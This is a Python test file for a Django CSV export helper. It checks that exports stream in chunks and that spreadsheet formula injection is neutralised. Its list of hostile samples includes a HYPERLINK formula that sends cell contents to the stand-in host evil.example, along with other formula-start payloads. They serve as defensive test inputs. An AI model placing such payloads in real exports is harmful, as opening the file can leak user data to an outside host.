"""The CSV writer every export uses: streamed, and safe to open in a spreadsheet."""

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

from django.http import StreamingHttpResponse

from vipdesk.lib.csv_export import ROWS_PER_CHUNK, csv_response, safe_cell

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\0=1+1",
]


def read_back(response: StreamingHttpResponse) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(body, newline="")))


def test_it_streams_a_csv_attachment():
    response = csv_response("x.csv", ["a"], iter([[1]]))
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'


def test_it_neutralises_every_formula_start_and_keeps_numbers():
    rows = [[text, -3, 2.5, Decimal("-1200.50")] for text in HOSTILE]
    header, *lines = read_back(csv_response("x.csv", ["text", "int", "float", "dec"], rows))
    assert header == ["text", "int", "float", "dec"]
    assert len(lines) == len(HOSTILE)
    for original, (text, n, f, d) in zip(HOSTILE, lines, strict=True):
        assert text.startswith("'")
        assert text[1:] == original.replace("\0", "")
        assert "\0" not in text
        assert int(n) == -3
        assert float(f) == 2.5
        assert Decimal(d) == Decimal("-1200.50")


def test_it_leaves_plain_text_dates_and_empty_cells_alone():
    when = datetime(2026, 11, 3, 9, 30, tzinfo=UTC)
    assert safe_cell("Acme Corp") == "Acme Corp"
    assert safe_cell(None) == ""
    assert safe_cell(when) == "2026-11-03T09:30:00+00:00"
    assert safe_cell(True) == "yes"


def test_it_neutralises_the_header_too():
    header, *_ = read_back(csv_response("x.csv", ["=cmd"], []))
    assert header == ["'=cmd"]


def test_it_streams_many_rows_in_chunks_and_loses_none():
    rows = ([n, f"=row {n}"] for n in range(ROWS_PER_CHUNK * 2 + 7))
    response = csv_response("x.csv", ["n", "text"], rows)
    chunks = list(response.streaming_content)
    assert len(chunks) == 3  # header + 500 rows, 500 rows, the last 7
    header, *lines = list(csv.reader(io.StringIO(b"".join(chunks).decode(), newline="")))
    assert [int(n) for n, _ in lines] == list(range(ROWS_PER_CHUNK * 2 + 7))
    assert lines[-1][1] == f"'=row {ROWS_PER_CHUNK * 2 + 6}"
